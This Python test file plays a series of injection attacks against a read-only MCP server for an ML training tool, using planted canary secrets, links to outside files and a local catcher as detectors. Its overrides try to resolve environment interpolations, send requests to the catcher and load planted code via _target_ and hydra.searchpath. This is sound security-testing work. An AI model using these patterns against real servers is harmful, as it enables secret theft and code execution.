"""Blind attack set #2 against the read-only MCP server (``python -m loopwright.mcp`` without ``--allow-launch``).

Written from the user docs (README.md, docs/MCP.md, docs/SECURITY.md, docs/LOOP.md, docs/RUNS.md, docs/EVALUATION.md),
tests/helpers/mcp_client.py, tests/conftest.py and what the running server itself reports; never from the server's
code. One server session over stdio (the real MCP SDK client) plays every attack in order; after each one the
detectors below say what, if anything, got out. ``test_attack_fails[<name>]`` fails when that attack succeeded.
Attacks that succeeded on the measured tree are listed in OPEN_LEAKS and run as ``xfail(strict=True)``.

Detectors (each has a self-check test):
- canary environment values (random cores) under many secret-looking names, plus one bland name holding a
  secret-looking value (the docs scrub by name, so that one is reported, not failed);
- a raw TCP catcher on 127.0.0.1 that records any bytes: every URL an attack names points at it, and so do the
  server's HTTP(S)_PROXY, ALL_PROXY, HF_ENDPOINT, WANDB_BASE_URL, OPENAI_BASE_URL, MODAL_SERVER_URL, RAY_ADDRESS
  (HF_HUB_OFFLINE and WANDB_MODE unset for the server, so hub and W&B calls would be made);
- marker files written by planted modules when imported (on the server's PYTHONPATH and in the project dir) and by
  shell commands an injection would run;
- files created or changed outside the outputs dir (the project dir, HOME, caches, the outside dir, TMPDIR);
- FILE_CANARY (a string in every planted outside file) in any reply, or copied into the outputs dir;
- reads of outside files and dirs: their atime is set two days before their mtime, and a moved atime is a read
  (relatime updates such an atime; skipped with a message when the filesystem does not).
"""

from __future__ import annotations

import asyncio
import json
import os
import secrets as _secrets
import socket
import subprocess
import sys
import time
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any, Awaitable, Callable

import pytest

from helpers import ROOT
from helpers.listener import Received, listen_on_loopback, read_head

pytest.importorskip("mcp")
# The one session plays every attack in the first test's fixture: ingest/improve run subprocesses and the DoS
# attacks wait out their timeouts, so the fixture needs more than the suite's 600 s on 2 loaded cores.
pytestmark = pytest.mark.timeout(1800)

CALL_TIMEOUT = 60.0
DOS_TIMEOUT = 20.0
RECOVERY_WAIT = 60.0


def _core() -> str:
    return _secrets.token_hex(10)


FILE_CANARY = "FILECANARY" + _core()
INSIDE_CANARY = "INSIDECANARY" + _core()
RESOLVE_PROBE = "resolvedprobe" + _core()

SECRET_ENV_NAMES = [
    "RUNPOD_API_KEY", "HF_TOKEN", "OPENAI_API_KEY", "ANTHROPIC_API_KEY", "WANDB_API_KEY", "GITHUB_PAT", "HF_AUTH",
    "API_KEY_2", "AWS_SECRET_ACCESS_KEY", "DB_PASSWORD", "MODAL_TOKEN_SECRET", "JUDGE_CREDENTIAL",
    "SSH_PRIVATE_KEY", "LW_SESSION_TOKEN", "MY_SERVICE_PASS",
]
ENV_CANARIES = {name: (_core()) for name in SECRET_ENV_NAMES}  # name -> core; the value is "lwsec-" + core
BLAND_NAME, BLAND_CORE = "LW_BLAND_SETTING", _core()  # a bland name holding a secret-looking value


def env_value(name: str) -> str:
    return "lwsec-" + ENV_CANARIES[name]


BLAND_VALUE = "sk-live-" + BLAND_CORE


# --------------------------------------------------------------------------------------------------- the catcher
class Catcher(Received):
    """A raw TCP listener: records every byte any connection sends, answers 404 and closes."""

    def __init__(self) -> None:
        super().__init__()
        self.connections = 0
        self.sock = listen_on_loopback(self._handle)
        self.port = self.sock.getsockname()[1]

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.port}"

    def _handle(self, conn: socket.socket) -> None:
        with self.lock:
            self.connections += 1
        data = read_head(conn, timeout=1.0, chunk=4096)
        self.add(data)
        try:
            conn.sendall(b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
        except OSError:
            pass
        conn.close()

    mark = Received.count


# --------------------------------------------------------------------------------------------- the planted world
MODULE_SRC = """
import os, pathlib
pathlib.Path({markers!r}, {name!r} + "-" + str(os.getpid()) + ".imported").write_text("imported")
def fn(*a, **k):
    pathlib.Path({markers!r}, {name!r} + ".called").write_text("called")
    return 1.0
class Reward:
    def __init__(self, *a, **k):
        fn()
    def __call__(self, *a, **k):
        return [1.0]
class Env(Reward):
    pass
"""


def openai_record(text: str) -> str:
    return json.dumps({"messages": [{"role": "user", "content": f"Where is my order? {text}"},
                                    {"role": "assistant", "content": f"It ships tomorrow. {text}"}]})


def transcript_line(text: str) -> str:
    msgs = [{"role": "user", "content": f"Where is my order? {text}"},
            {"role": "assistant", "content": f"It ships tomorrow. {text}"}]
    return json.dumps({"id": "t-" + "0" * 16, "format": "openai",
                       "source": {"path": "x.jsonl", "line": 1, "record": None}, "messages": msgs, "metadata": {}})


def manifest(status: str = "completed", **extra: Any) -> str:
    base = {"status": status, "started": "2026-12-01T00:00:00", "overrides": ["model=tiny", "profile=smoke"],
            "choices": {"model": "tiny"}, "config": {"model": {"name": "tiny"}, "task": {"path": None}},
            "result": {"base_accuracy": 0.1, "trained_accuracy": 0.2}}
    base.update(extra)
    return json.dumps(base)


@dataclass
class World:
    root: Path
    project: Path
    outputs: Path
    outside: Path
    home: Path
    pp: Path
    markers: Path
    tmpdir: Path
    catcher: Catcher
    tracked: dict[Path, int] = field(default_factory=dict)  # outside path -> the old atime (ns) we set
    atime_works: bool = False
    atime_note: str = ""

    def w(self, path: Path, text: str) -> Path:
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
        return path

    def link(self, at: Path, target: Path) -> Path:
        at.parent.mkdir(parents=True, exist_ok=True)
        at.symlink_to(target)
        return at


def build_world(root: Path, catcher: Catcher) -> World:
    wd = World(root=root, project=root / "project", outputs=root / "outputs", outside=root / "outside",
               home=root / "home", pp=root / "pp", markers=root / "markers", tmpdir=root / "tmpdir", catcher=catcher)
    for d in (wd.project, wd.outputs, wd.outside, wd.home, wd.pp, wd.markers, wd.tmpdir, root / "cache",
              root / "hfhome"):
        d.mkdir(parents=True, exist_ok=True)
    o, p, out = wd.outside, wd.project, wd.outputs
    # outside: every file holds FILE_CANARY
    wd.w(o / "secret.txt", f"outside secret {FILE_CANARY}\n")
    wd.w(o / "secret.jsonl", openai_record(FILE_CANARY) + "\n")
    wd.w(o / "lineage_raw.jsonl", openai_record(FILE_CANARY) + "\n")
    wd.w(o / "lineage_data.jsonl", json.dumps({"prompt": FILE_CANARY, "answer": "1"}) + "\n")
    wd.w(o / "hard_secret.jsonl", openai_record(FILE_CANARY) + "\n")
    wd.w(o / "hard_metrics.jsonl", json.dumps({"step": 1, "loss": 0.5, FILE_CANARY: 1}) + "\n")
    wd.w(o / "fake_store.jsonl", transcript_line(FILE_CANARY) + "\n")
    wd.w(o / "victim.txt", f"victim {FILE_CANARY}\n")
    wd.w(o / "victim2.txt", f"victim2 {FILE_CANARY}\n")
    wd.w(o / "rubric.txt", f"Grade it. {FILE_CANARY}\n")
    wd.w(o / "prompts.jsonl", json.dumps({"prompt": FILE_CANARY, "expect": ["x"]}) + "\n")
    wd.w(o / "costs.jsonl", json.dumps({"usd": 1.0, "note": FILE_CANARY}) + "\n" + FILE_CANARY + "\n")
    wd.w(o / "evil.yaml", f"# {FILE_CANARY}. An outside option.\nname: {FILE_CANARY}\n")
    wd.w(o / "evilgroup" / "evil.yaml", f"# {FILE_CANARY}. An outside option.\nname: {FILE_CANARY}\n")
    wd.w(o / "model" / "config.json", json.dumps({"model_type": FILE_CANARY, "architectures": [FILE_CANARY]}))
    fake_run = o / "fake_run"
    wd.w(fake_run / "manifest.json", manifest(error=FILE_CANARY))
    wd.w(fake_run / "train.log", f"log line {FILE_CANARY}\n")
    wd.w(fake_run / "metrics.jsonl", json.dumps({"step": 1, "loss": 0.5, "note": FILE_CANARY}) + "\n")
    wd.w(fake_run / "eval_results.json", json.dumps({"summary": {"accuracy": 0.5, "note": FILE_CANARY},
                                                     "records": [{"prompt": FILE_CANARY}]}))
    wd.w(fake_run / ".hydra" / "config.yaml", f"notes: {FILE_CANARY}\n")
    wd.w(fake_run / ".hydra" / "overrides.yaml", f"- notes={FILE_CANARY}\n")
    wd.w(fake_run / "checkpoints" / "checkpoint-1" / "loopwright_complete.json", json.dumps({"note": FILE_CANARY}))
    wd.w(o / "wdir" / "keep.txt", f"{FILE_CANARY}\n")
    wd.w(o / "sub" / "secret_sub.jsonl", openai_record(FILE_CANARY) + "\n")
    wd.w(wd.home / "secret.jsonl", openai_record(FILE_CANARY) + "\n")
    wd.w(wd.home / ".ssh" / "id_rsa", f"-----BEGIN KEY----- {FILE_CANARY}\n")

    # planted modules: on the server's PYTHONPATH and in the project dir (cwd, so on sys.path of `python -m`)
    for d, name in ((wd.pp, "pp_evil"), (wd.pp, "pp_kind"), (p, "proj_evil"), (p, "proj_kind")):
        wd.w(d / f"{name}.py", MODULE_SRC.format(markers=str(wd.markers), name=name))
    wd.w(wd.pp / "pp_evil_sp" / "__init__.py", MODULE_SRC.format(markers=str(wd.markers), name="pp_evil_sp"))
    wd.w(wd.pp / "pp_evil_sp" / "model" / "evil.yaml", "name: evil\n")
    wd.w(p / "remote_model" / "config.json", json.dumps({"model_type": "proj_remote", "auto_map": {
        "AutoConfig": "proj_remote_code.Cfg", "AutoModelForCausalLM": "proj_remote_code.Model"}}))
    wd.w(p / "remote_model" / "proj_remote_code.py", MODULE_SRC.format(markers=str(wd.markers), name="remote_code"))

    # project: inside logs (INSIDE_CANARY), links out, a hard link, a log with interpolations and env values
    wd.w(p / "logs" / "ok.jsonl", "\n".join(openai_record(f"{INSIDE_CANARY} {i}") for i in range(3)) + "\n")
    wd.w(p / "prompts.jsonl", json.dumps({"prompt": "What is 1+1?", "expect": ["2"]}) + "\n")
    wd.link(p / "link_secret.jsonl", o / "secret.jsonl")
    wd.link(p / "linkdir", o)
    wd.w(p / "logs_linked" / "fine.jsonl", openai_record("fine") + "\n")
    wd.link(p / "logs_linked" / "link.jsonl", o / "secret.jsonl")
    wd.w(p / "logs_subdir" / "fine.jsonl", openai_record("fine2") + "\n")
    wd.link(p / "logs_subdir" / "sub", o / "sub")
    os.link(o / "hard_secret.jsonl", p / "hard.jsonl")
    interp = "${oc.env:LW_RESOLVE_PROBE}"
    wd.w(p / "logs_interp" / "interp.jsonl",
         json.dumps({"messages": [{"role": "user", "content": f"order {interp}"},
                                  {"role": "assistant", "content": f"ok {interp} ${{oc.env:RUNPOD_API_KEY}}"}],
                     "metadata": {"conversation_id": interp}}) + "\n")
    env_vals = [env_value(n) for n in SECRET_ENV_NAMES]
    wd.w(p / "logs_env" / "env.jsonl", "\n".join(
        json.dumps({"messages": [{"role": v, "content": "hi"}, {"role": "assistant", "content": v}], "id": v})
        for v in env_vals) + "\n")

    # outputs: planted runs and sweeps
    runs = out / "runs" / "2026-12-01"
    r1 = runs / "00-00-01"  # train.log is a link out
    wd.w(r1 / "manifest.json", manifest())
    wd.link(r1 / "train.log", o / "secret.txt")
    wd.link(runs / "00-00-02", fake_run)  # the run dir itself is a link out
    r3 = runs / "00-00-03"  # launch.json records a log outside
    wd.w(r3 / "manifest.json", manifest(status="running"))
    wd.w(r3 / "launch.json", json.dumps({"pid": os.getpid(), "command": ["python", "-m", "loopwright.train"],
                                         "log": str(o / "secret.txt"), "run_dir": str(fake_run)}))
    r4 = runs / "00-00-04"  # lineage: recorded paths outside the roots
    wd.w(r4 / "manifest.json", manifest(
        config={"model": {"name": "tiny"}, "task": {"name": "jsonl", "path": str(o / "lineage_data.jsonl")}},
        dataset={"train": {"path": str(o / "lineage_data.jsonl"), "sha256": "0" * 64},
                 "sha256": "0" * 64, "source": str(o / "lineage_data.jsonl")},
        lineage={"parent_run": str(fake_run), "run": str(fake_run), "curated": {"path": str(o / "lineage_data.jsonl"),
                                                                                 "sha256": "0" * 64},
                 "transcripts": {"path": str(o / "lineage_raw.jsonl"), "sha256": "0" * 64},
                 "raw_logs": [{"path": str(o / "lineage_raw.jsonl"), "sha256": "0" * 64}]},
        resumed_from=str(fake_run / "checkpoints" / "checkpoint-1")))
    improved = out / "lin_improved"  # an inside curated file whose improve_summary points outside
    wd.w(improved / "curated.jsonl", json.dumps({"prompt": "q", "completion": "a"}) + "\n")
    wd.w(improved / "improve_summary.json", json.dumps({"lineage": {
        "transcripts": {"path": str(o / "lineage_raw.jsonl"), "sha256": "1" * 64},
        "ingest_report": {"path": str(o / "secret.txt"), "sha256": "1" * 64},
        "raw_logs": [{"path": str(o / "lineage_raw.jsonl"), "sha256": "1" * 64, "format": "openai"}]}}))
    r5 = runs / "00-00-05"
    wd.w(r5 / "manifest.json", manifest(
        config={"model": {"name": "tiny"}, "task": {"name": "curated", "path": str(improved / "curated.jsonl")}},
        dataset={"train": {"path": str(improved / "curated.jsonl"), "sha256": "0" * 64}},
        lineage={"curated": {"path": str(improved / "curated.jsonl"), "sha256": "0" * 64},
                 "improve": {"path": str(improved / "improve_summary.json"), "sha256": "0" * 64}}))
    r6 = runs / "00-00-06"  # hard link and file links
    wd.w(r6 / "manifest.json", manifest())
    os.link(o / "hard_metrics.jsonl", r6 / "metrics.jsonl")
    wd.link(r6 / "eval_results.json", fake_run / "eval_results.json")
    r7 = runs / "00-00-07"  # .hydra is a link out
    wd.w(r7 / "manifest.json", manifest())
    wd.link(r7 / ".hydra", fake_run / ".hydra")
    r8 = runs / "00-00-08"  # interpolations and env values planted in the run's files
    wd.w(r8 / "manifest.json", manifest(error=interp + " " + " ".join(env_vals), notes=interp,
                                        overrides=["notes=" + interp]))
    wd.w(r8 / ".hydra" / "config.yaml", f"notes: '{interp}'\nseed: 0\n")
    wd.w(r8 / ".hydra" / "overrides.yaml", f"- notes={interp}\n")
    wd.w(r8 / "train.log", "\n".join(["start"] + [f"value {v}" for v in env_vals] +
                                     [f"bland {BLAND_VALUE}", interp]) + "\n")
    wd.w(r8 / "metrics.jsonl", json.dumps({"step": 1, "loss": interp}) + "\n")
    r9 = runs / "00-00-09"  # a positive control: inside content comes back
    wd.w(r9 / "manifest.json", manifest())
    wd.w(r9 / "train.log", f"inside line {INSIDE_CANARY}\n")
    sw = out / "multirun" / "2026-12-01" / "00-00-10"  # a sweep with links out and interpolations
    wd.w(sw / "multirun.yaml", f"hydra:\n  mode: MULTIRUN\nnotes: '{interp}'\n")
    wd.link(sw / "summary.md", o / "secret.txt")
    wd.link(sw / "sweep_report.md", o / "secret.txt")
    wd.link(sw / "optimization_results.yaml", o / "evil.yaml")
    wd.link(sw / "0", fake_run)
    wd.w(sw / "1" / "manifest.json", manifest())
    # ingest/improve outputs with planted links
    wd.link(out / "outlink", o / "wdir")
    wd.w(out / "store_link" / "README", "store\n")
    wd.link(out / "store_link" / "transcripts.jsonl", o / "fake_store.jsonl")
    wd.w(out / "store_report" / "README", "store\n")
    wd.link(out / "store_report" / "ingest_report.json", o / "victim2.txt")
    wd.w(out / "improve_plant" / "README", "plant\n")
    wd.link(out / "improve_plant" / "transcripts.jsonl", o / "fake_store.jsonl")
    wd.w(out / "improve_out" / "README", "plant\n")
    wd.link(out / "improve_out" / "curated.jsonl", o / "victim.txt")
    wd.link(out / "improve_out" / "next_steps.md", o / "victim2.txt")

    # the atime trap on every outside file and dir (home included)
    for base in (o, wd.home):
        for dirpath, dirnames, filenames in os.walk(base):
            for n in filenames + dirnames:
                wd.tracked[Path(dirpath) / n] = 0
            wd.tracked[Path(dirpath)] = 0
    wd.tracked[p / "hard.jsonl"] = 0  # same inode as hard_secret.jsonl
    reset_atimes(wd)
    return wd


def reset_atimes(wd: World) -> None:
    for path in wd.tracked:
        st = os.stat(path)
        old = st.st_mtime_ns - 2 * 86400 * 10**9
        os.utime(path, ns=(old, st.st_mtime_ns))
        wd.tracked[path] = os.stat(path).st_atime_ns


def atime_self_test(wd: World) -> None:
    probe = wd.root / "atime_probe" / "probe.txt"
    wd.w(probe, "probe\n")
    st = os.stat(probe)
    os.utime(probe, ns=(st.st_mtime_ns - 2 * 86400 * 10**9, st.st_mtime_ns))
    before = os.stat(probe).st_atime_ns
    subprocess.run(["cat", str(probe)], stdout=subprocess.DEVNULL, check=True)
    after = os.stat(probe).st_atime_ns
    wd.atime_works = after != before
    wd.atime_note = ("atime moves on read here" if wd.atime_works else
                     "this filesystem does not move atime on read (noatime?): the read detector is off")


# ------------------------------------------------------------------------------------------------ the detectors
def snapshot(wd: World) -> dict[str, tuple]:
    """Every entry under the root except the outputs dir: (kind, mtime, size)."""
    seen: dict[str, tuple] = {}
    for dirpath, dirnames, filenames in os.walk(wd.root):
        if Path(dirpath) == wd.root:
            dirnames[:] = [d for d in dirnames if d not in ("outputs", "atime_probe", "markers")]
        for n in filenames + dirnames:
            path = Path(dirpath) / n
            try:
                st = os.lstat(path)
            except FileNotFoundError:
                continue
            kind = "link" if os.path.islink(path) else ("dir" if path.is_dir() else "file")
            seen[str(path)] = (kind, st.st_mtime_ns if kind == "file" else 0, st.st_size if kind == "file" else 0)
    return seen


def outputs_text(wd: World) -> dict[str, str]:
    """The outputs dir's own files (no links, no hard links), read as text."""
    files: dict[str, str] = {}
    for dirpath, dirnames, filenames in os.walk(wd.outputs):
        for n in filenames:
            path = Path(dirpath) / n
            if path.is_symlink():
                continue
            try:
                st = os.lstat(path)
                if st.st_nlink > 1 or st.st_size > 20_000_000:
                    continue
                files[str(path)] = path.read_text(errors="replace")
            except OSError:
                continue
    return files


def scan_text(text: str, client_secrets: list[str]) -> tuple[list[str], list[str]]:
    """(leaks, notes) a reply's text shows."""
    leaks, notes = [], []
    for name, core in ENV_CANARIES.items():
        if core in text:
            leaks.append(f"reply holds the value of ${name}")
    for s in client_secrets:
        if s in text:
            leaks.append(f"reply holds a secret the client sent ({s[:14]}...)")
    if FILE_CANARY in text:
        leaks.append("reply holds outside file content (FILE_CANARY)")
    if RESOLVE_PROBE in text:
        leaks.append("reply holds $LW_RESOLVE_PROBE's value: an interpolation was resolved")
    if BLAND_CORE in text:
        notes.append(f"reply holds the value of the bland ${BLAND_NAME} (not promised by the docs)")
    return leaks, notes


@dataclass
class Outcome:
    leaks: list[str] = field(default_factory=list)
    notes: list[str] = field(default_factory=list)
    dos: list[str] = field(default_factory=list)
    replies: list[str] = field(default_factory=list)
    seconds: float = 0.0


class Ctx:
    def __init__(self, wd: World, client: Any):
        self.wd, self.client = wd, client
        self.texts: list[str] = []
        self.client_secrets: list[str] = []
        self.all_client_secrets: list[str] = []
        self.dos: list[str] = []
        self.timeout = CALL_TIMEOUT

    def o(self, name: str) -> str:
        """A path in the outputs dir (a relative output is resolved against the project dir)."""
        return str(self.wd.outputs / name)

    def secret(self) -> str:
        s = "clisec" + _core()
        self.client_secrets.append(s)
        self.all_client_secrets.append(s)
        return s

    async def call(self, tool: str, **args: Any) -> Any:
        t0 = time.monotonic()
        try:
            result = await asyncio.wait_for(self.client.call_tool(tool, args), self.timeout)
        except asyncio.TimeoutError:
            self.dos.append(f"{tool} did not answer within {self.timeout:.0f} s")
            self.texts.append("<timeout>")
            return None
        except Exception as exc:  # a protocol-level failure is an answer too
            self.texts.append(f"<client exception {type(exc).__name__}: {exc}>")
            return None
        text = "".join(getattr(c, "text", "") for c in result.content)
        if result.structured_content is not None:
            text += json.dumps(result.structured_content)
        self.texts.append(f"[{tool} {time.monotonic() - t0:.1f}s err={bool(result.is_error)}] {text}")
        return result

    async def raw(self, coro: Awaitable[Any], label: str) -> Any:
        try:
            result = await asyncio.wait_for(coro, self.timeout)
        except asyncio.TimeoutError:
            self.dos.append(f"{label} did not answer within {self.timeout:.0f} s")
            return None
        except Exception as exc:
            self.texts.append(f"<{label}: {type(exc).__name__}: {exc}>")
            return None
        self.texts.append(f"[{label}] {result!r}")
        return result


# --------------------------------------------------------------------------------------------------- the attacks
@dataclass
class Attack:
    name: str
    what: str
    fn: Callable[[Ctx], Awaitable[None]]
    dos: bool = False


ATTACKS: list[Attack] = []


def attack(name: str, what: str, dos: bool = False):
    def register(fn):
        ATTACKS.append(Attack(name, what, fn, dos))
        return fn
    return register


INTERP = "${oc.env:LW_RESOLVE_PROBE}"


def cu(c: Ctx, path: str = "/x") -> str:
    return c.wd.catcher.url + path


# -- interpolation and resolvers --------------------------------------------------------------------------------
@attack("interp_compose_plain", "compose_config notes=${oc.env:...} and a quoted one, plus in a dict value")
async def _(c):
    await c.call("compose_config", overrides=[f"notes={INTERP}"])
    await c.call("compose_config", overrides=[f"notes='{INTERP}'"])
    await c.call("compose_config", overrides=[f"+x={{a: '{INTERP}'}}"])


@attack("interp_other_resolvers", "oc.select / oc.decode / oc.create / a custom-looking resolver in plan_job")
async def _(c):
    await c.call("plan_job", overrides=["notes=${oc.decode:'${oc.env:LW_RESOLVE_PROBE}'}"])
    await c.call("plan_job", overrides=["+x=${oc.create:{a: '${oc.env:LW_RESOLVE_PROBE}'}}"])
    await c.call("plan_job", overrides=["run_name=${oc.select:hydra.runtime.cwd}"])


@attack("interp_unicode_lookalikes", "fullwidth/small dollar and brace lookalikes (a NFKC-normalising check)")
async def _(c):
    await c.call("compose_config", overrides=["notes=\uff04\uff5boc.env:LW_RESOLVE_PROBE\uff5d"])
    await c.call("compose_config", overrides=["notes=\ufe69\ufe5boc.env:LW_RESOLVE_PROBE\ufe5c"])


@attack("interp_every_string_argument", "${...} in run_dir, sweep_dir, group, ingest format/output, improve task")
async def _(c):
    await c.call("run_status", run_dir=f"{c.wd.outputs}/{INTERP}")
    await c.call("run_metrics", run_dir=str(c.wd.outputs), keys=[INTERP])
    await c.call("sweep_report", sweep_dir=f"{INTERP}")
    await c.call("list_options", group=INTERP)
    await c.call("ingest", inputs=["logs/ok.jsonl"], output=c.o("st_interp"), format=INTERP)
    await c.call("improve", transcripts="x", output=c.o("imp_interp"), task=INTERP)
    await c.call("improve", transcripts="x", output=c.o("imp_interp"), overrides=[f"reward.params.x={INTERP}"])


@attack("interp_in_ingested_logs", "logs whose messages hold ${oc.env:...}: ingest then improve (resolution)")
async def _(c):
    await c.call("ingest", inputs=["logs_interp"], output=c.o("st_interp2"))
    await c.call("improve", transcripts=str(c.wd.outputs / "st_interp2"), output=c.o("imp_interp2"))


@attack("interp_planted_in_run_files", "run/sweep readers over a run whose manifest/.hydra/log hold ${oc.env:...}")
async def _(c):
    r8 = str(c.wd.outputs / "runs" / "2026-12-01" / "00-00-08")
    await c.call("run_status", run_dir=r8, log_lines=200)
    await c.call("run_metrics", run_dir=r8)
    await c.call("lineage", run_dir=r8)
    await c.call("sweep_report", sweep_dir=str(c.wd.outputs / "multirun" / "2026-12-01" / "00-00-10"))


@attack("env_expand_dollar_path", "task.path / eval.prompts / rubric_file as $LW_OUT_DIR/... (expandvars)")
async def _(c):
    await c.call("compose_config", overrides=["task=jsonl", "task.path=$LW_OUT_DIR/secret.jsonl"])
    await c.call("compose_config", overrides=["eval.prompts=$LW_OUT_DIR/prompts.jsonl"])
    await c.call("compose_config", overrides=["reward=judge", "reward.model=m",
                                              "reward.rubric_file=$LW_OUT_DIR/rubric.txt"])
    await c.call("improve", transcripts="x", output=c.o("imp_env"), eval_prompts="$LW_OUT_DIR/prompts.jsonl")


@attack("env_secret_via_expanded_path", "task.path=$RUNPOD_API_KEY etc.: an error that echoes an expanded value")
async def _(c):
    await c.call("compose_config", overrides=["task=jsonl", "task.path=$RUNPOD_API_KEY"])
    await c.call("compose_config", overrides=["model.name_or_path=$HF_TOKEN", "eval.prompts=$GITHUB_PAT"])
    await c.call("plan_job", overrides=["provider=runpod", "provider.gpu_type=$API_KEY_2"])


# -- network ------------------------------------------------------------------------------------------------------
@attack("net_plan_runpod_default", "plan_job provider=runpod with RUNPOD_API_KEY set (proxy points at the catcher)")
async def _(c):
    await c.call("plan_job", overrides=["provider=runpod", "provider.max_cost=5"])
    await c.call("plan_job", overrides=["provider=runpod", "provider.volume_id=vol123", "provider.max_cost=5",
                                        "provider.gpu_type=NVIDIA H100 80GB HBM3"])


@attack("net_url_keys_direct", "provider.graphql_url / api_url / s3_endpoint / reward.base_url at the catcher")
async def _(c):
    await c.call("plan_job", overrides=["provider=runpod", f"provider.graphql_url={cu(c, '/graphql')}"])
    await c.call("plan_job", overrides=["provider=runpod", f"provider.api_url={cu(c, '/v1')}"])
    await c.call("compose_config", overrides=["reward=judge", "reward.model=m", f"reward.base_url={cu(c, '/v1')}"])


@attack("net_url_in_list_of_dicts", "a judge component with base_url inside reward.components (compose and improve)")
async def _(c):
    comp = f"reward.components=[{{name: j, kind: judge, weight: 1.0, base_url: '{cu(c, '/v1')}', model: m}}]"
    await c.call("compose_config", overrides=["reward=composite", comp])
    await c.call("improve", transcripts=str(c.wd.outputs / "st_control"), output=c.o("imp_comp"), reward="composite",
                 overrides=[comp])


@attack("net_url_key_spellings", "host keys under other spellings: api_base, host, server, uri, base-url, params")
async def _(c):
    for ov in (f"+reward.params.api_base={cu(c)}", f"+reward.params.host={cu(c)}", f"+reward.params.uri={cu(c)}",
               f"+reward.params.server={cu(c)}", f"+reward.params.base-url={cu(c)}", f"+x.judge_URL={cu(c)}"):
        await c.call("compose_config", overrides=["reward=judge", "reward.model=m", ov])


@attack("net_url_in_sweep_values", "reward.base_url as a sweep: a comma list and choice() with the catcher")
async def _(c):
    await c.call("compose_config", overrides=["reward=judge", "reward.model=m",
                                              f"reward.base_url=http://a.invalid/v1,{cu(c, '/v1')}"], multirun=True)
    await c.call("plan_job", overrides=["reward=judge", "reward.model=m",
                                        f"reward.base_url=choice(x,'{cu(c, '/v1')}')"], multirun=True)


@attack("net_task_path_urls", "task.path / eval.prompts / rubric_file as http://, hf://, s3:// and ftp:// URLs")
async def _(c):
    port = c.wd.catcher.port
    for ov in (f"task.path={cu(c, '/d.jsonl')}", "task.path=hf://datasets/attacker/x/d.jsonl",
               f"task.path=ftp://127.0.0.1:{port}/d.jsonl", "task.path=s3://bucket/d.jsonl"):
        await c.call("compose_config", overrides=["task=jsonl", ov])
    await c.call("plan_job", overrides=[f"eval.prompts={cu(c, '/p.jsonl')}"])
    await c.call("compose_config", overrides=["reward=judge", "reward.model=m", f"reward.rubric_file={cu(c, '/r')}"])
    await c.call("improve", transcripts="x", output=c.o("imp_url"), eval_prompts=cu(c, "/p.jsonl"))


@attack("net_hub_models", "hub models by name (HF_ENDPOINT at the catcher, offline mode unset) in compose/plan")
async def _(c):
    await c.call("compose_config", overrides=["model=qwen"])
    await c.call("plan_job", overrides=["model=llama", "model.name_or_path=attacker-org/probe-model"])
    await c.call("compose_config", overrides=["model=smollm2", "model.name_or_path=attacker-org/x",
                                              "model.trust_remote_code=false"])


@attack("net_db_storage_urls", "trial.storage / hydra.sweeper.storage as mysql:// and postgresql:// at the catcher")
async def _(c):
    port = c.wd.catcher.port
    await c.call("compose_config", overrides=[f"trial.storage=mysql://u:p@127.0.0.1:{port}/db"])
    await c.call("plan_job", overrides=["sweep=grpo_lr_kl", f"hydra.sweeper.storage=postgresql://u:p@127.0.0.1:{port}/x"],
                 multirun=True)
    await c.call("compose_config", overrides=[f"trial.storage=redis://127.0.0.1:{port}/0"])


@attack("net_other_providers", "plan_job provider=modal / ray / slurm / local_gpus (MODAL_SERVER_URL, RAY_ADDRESS)")
async def _(c):
    for prov in ("modal", "ray", "slurm", "local_gpus"):
        await c.call("plan_job", overrides=[f"provider={prov}", "provider.max_cost=5"])


@attack("net_logger_and_rollout", "logger=wandb (WANDB_BASE_URL) and rollout=vllm_server with device=cuda")
async def _(c):
    await c.call("plan_job", overrides=["logger=wandb", "logger.entity=attacker", "logger.mode=online"])
    await c.call("compose_config", overrides=["rollout=vllm_server", "profile.device=cuda"])
    await c.call("compose_config", overrides=["rollout=vllm", "profile=gpu"])


@attack("net_calibration_and_cache", "reward.calibration / cache_dir / api_key_env (host-less, read-only gated)")
async def _(c):
    await c.call("compose_config", overrides=["reward=judge", "reward.model=m", "reward.calibration=logs/ok.jsonl"])
    await c.call("compose_config", overrides=["reward=judge", "reward.model=m", "reward.api_key_env=RUNPOD_API_KEY"])
    await c.call("compose_config", overrides=["reward=judge", "reward.model=m", "reward.cache_dir=cachedir"])
    await c.call("improve", transcripts="x", output=c.o("imp_cal"), reward="judge",
                 overrides=["reward.api_key_env=HF_TOKEN", "reward.model=m"])


# -- code execution -----------------------------------------------------------------------------------------------
@attack("code_target_keys", "_target_ in reward / task.environment / a dict value / a list item / improve")
async def _(c):
    await c.call("compose_config", overrides=["reward._target_=pp_evil.Reward"])
    await c.call("compose_config", overrides=["task=tool_use", "task.environment._target_=proj_evil.Env"])
    await c.call("compose_config", overrides=["+x={_target_: pp_evil.fn}"])
    await c.call("compose_config", overrides=["+x=[{_target_: pp_evil.fn}]"])
    await c.call("improve", transcripts="x", output=c.o("imp_tgt"), overrides=["reward._target_=pp_evil.Reward"])


@attack("code_kind_names_module", "a module named where an option's kind/trainer/engine/architecture goes")
async def _(c):
    for ov in (["reward.kind=pp_kind"], ["reward.kind=pp_kind:fn"], ["reward.kind=pp_kind.fn"],
               ["task.kind=proj_kind"], ["objective.trainer=pp_kind"], ["rollout.engine=pp_kind"],
               ["logger.kind=proj_kind"], ["model=tiny", "model.random_init.architecture=pp_kind"],
               ["reward=composite", "reward.components=[{name: a, kind: pp_kind.fn, weight: 1.0}]"],
               ["reward.params={fn: pp_kind.fn}"]):
        await c.call("compose_config", overrides=ov)
    await c.call("improve", transcripts=str(c.wd.outputs / "st_control"), output=c.o("imp_kind"),
                 overrides=["reward.kind=pp_kind.fn"])


@attack("code_hydra_searchpath", "hydra.searchpath to a planted package (=, +, ++, scalar; compose, plan, improve)")
async def _(c):
    for ov in ("hydra.searchpath=[pkg://pp_evil_sp]", "+hydra.searchpath=[pkg://pp_evil_sp]",
               "++hydra.searchpath=[pkg://pp_evil_sp]", "hydra.searchpath=pkg://pp_evil_sp"):
        await c.call("compose_config", overrides=[ov, "model=evil"])
    await c.call("plan_job", overrides=["hydra.searchpath=[pkg://pp_evil_sp]"])
    await c.call("improve", transcripts="x", output=c.o("imp_sp"), overrides=["hydra.searchpath=[pkg://pp_evil_sp]"])


